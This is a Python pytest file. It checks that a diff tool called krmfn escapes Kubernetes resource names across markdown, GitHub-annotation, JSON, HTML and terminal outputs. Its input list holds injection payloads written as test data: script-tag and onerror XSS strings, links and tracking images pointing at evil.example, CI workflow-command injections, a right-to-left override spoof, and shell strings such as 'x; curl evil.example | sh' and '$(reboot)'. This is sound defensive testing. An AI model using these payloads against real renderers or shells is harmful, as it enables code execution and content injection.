"""Names that look like markup, links, commands or shell words stay text in every format of krmfn diff."""

from __future__ import annotations

import json
import re
import shlex
from typing import TYPE_CHECKING

import pytest

from tests.calls import krmfn
from tests.reports import npm
from tests.reports.browser import Browser
from tests.reports.test_review import RENDER, cr

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

NAMES = [
    "<img src=x onerror=alert(1)>", "</details><script>alert(1)</script>", "a|b\\\\|c", "[click](https://evil.example)",
    "![x](https://evil.example/track.png)", "https://evil.example", "www.evil.example", "@everyone", "owner/repo#1",
    "`code` ``", "$x^2$", "a\n::error::b", "::error::c", "##[error]d", "%0A::error::e", "<!-- krmfn 0123 -->",
    "x; curl evil.example | sh", "$(reboot)", "\u202egpj.exe", "[a]: https://evil.example",
]  # fmt: skip
MAP = """\
apiVersion: v1
kind: ConfigMap
metadata: {{name: {name}, namespace: {space}, labels: {{{name}: a}}}}
data: {{a: {value}}}
"""
SET = """\
apiVersion: apps/v1
kind: StatefulSet
metadata: {{name: {name}, namespace: {space}}}
spec:
  replicas: {replicas}
  serviceName: a
  selector: {{matchLabels: {{a: b}}}}
  template: {{metadata: {{labels: {{a: b}}}}, spec: {{containers: [{{name: nats, image: nats:2.14.2}}]}}}}
"""


@pytest.fixture
def states(tmp_path: Path) -> Path:
    """Objects, files and a NATS with such names, before and after."""
    return write(tmp_path, NAMES)


def write(tmp_path: Path, names: list[str]) -> Path:
    for number, side in enumerate(("old", "new")):
        folder = tmp_path / side
        folder.mkdir()
        texts = []
        for name in names:
            words = {"name": json.dumps(name), "space": json.dumps(name)}
            texts += [MAP.format(value=number, **words), SET.format(replicas=5 - 2 * number, **words)]
        (folder / "objects.yaml").write_text("---\n".join(texts))
        (folder / "render.yaml").write_text(RENDER.format(3))
        for place, name in enumerate(name for name in names if "/" not in name and "\n" not in name):
            (folder / f"{name}.yaml").write_text(cr(f"nats-{place}", 5 - 2 * number))
    return tmp_path


def shown_name(name: str) -> str:
    """As a comment shows it: on one line, in ASCII, without backticks."""
    return name.replace("\n", "\\x0a").replace("\u202e", "\\u202e").replace("`", "'")


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    one = Browser(tmp_path_factory.mktemp("profile"))
    yield one
    one.close()


def diff(states: Path, form: str) -> str:
    called = krmfn("diff", "old", "new", "-o", form, cwd=states)
    assert called.status == 1, called
    return called.out


@pytest.mark.parametrize("first", range(0, len(NAMES), 2))
def test_a_comment_has_no_link_no_picture_no_html_and_whole_tables(first: int, browser: Browser, tmp_path: Path):
    names = NAMES[first : first + 2]  # so few that the comment shows all of them
    states = write(tmp_path, names)
    text = diff(states, "markdown")
    assert len(text.splitlines()) <= 40
    (states / "page.html").write_text("<!DOCTYPE html><title>x</title><div id=out></div>")
    browser.open(states / "page.html")
    browser.run(npm.script("marked") + ";0")
    browser.run(f"document.getElementById('out').innerHTML = marked.parse({json.dumps(text)}); 0")
    found = browser.run('[...document.querySelectorAll("#out *")].map((one) => one.localName)')
    assert set(found) <= {
        "h3", "p", "strong", "table", "thead", "tbody", "tr", "th", "td", "br", "ol", "ul", "li", "code", "details",
        "summary",
    }  # fmt: skip
    rows = browser.run('[...document.querySelectorAll("#out tr")].map((one) => one.cells.length)')
    assert set(rows) <= {3, 4}
    shown = browser.run('[...document.querySelectorAll("#out td")].map((one) => one.textContent).join("\\n")')
    assert all(shown_name(name) in shown for name in names)
    prose = re.sub(r"`[^`\n]*`", "", text)  # in code nothing is a mention or a formula
    assert not re.search(r"@\w|\w#\d|\$x", prose)


def test_every_line_for_the_runner_is_one_command(states: Path):
    for line in diff(states, "github").splitlines():
        assert re.fullmatch(r"::(error|warning|notice) (file=[^:,]*,)?(line=\d+,)?title=[^:,]+::.*", line), line


def test_steps_are_words_for_a_shell_as_they_are_meant(states: Path):
    steps = [step for one in json.loads(diff(states, "json"))["clusters"] for step in one["before"]]
    scale = [command for step in steps for command in step.split("`")[1::2] if command.startswith("kubectl scale ")]
    names = {shlex.split(command)[3] for command in scale}
    assert {"x; curl evil.example | sh", "$(reboot)"} <= names
    assert all(len(shlex.split(command)) == 7 for command in scale)


def test_a_page_keeps_them_text(browser: Browser, states: Path):
    (states / "page.html").write_text(diff(states, "html"))
    browser.open(states / "page.html")
    assert browser.complaints() == []
    assert browser.run("document.images.length") == 0
    assert browser.run("document.scripts.length") == 1
    assert browser.run('[...document.links].every((one) => one.getAttribute("href").startsWith("#"))')
    assert "\u202e" not in browser.run("document.body.textContent")


def test_a_terminal_gets_no_control_character(states: Path):
    assert diff(states, "text").replace("\n", "").isprintable()
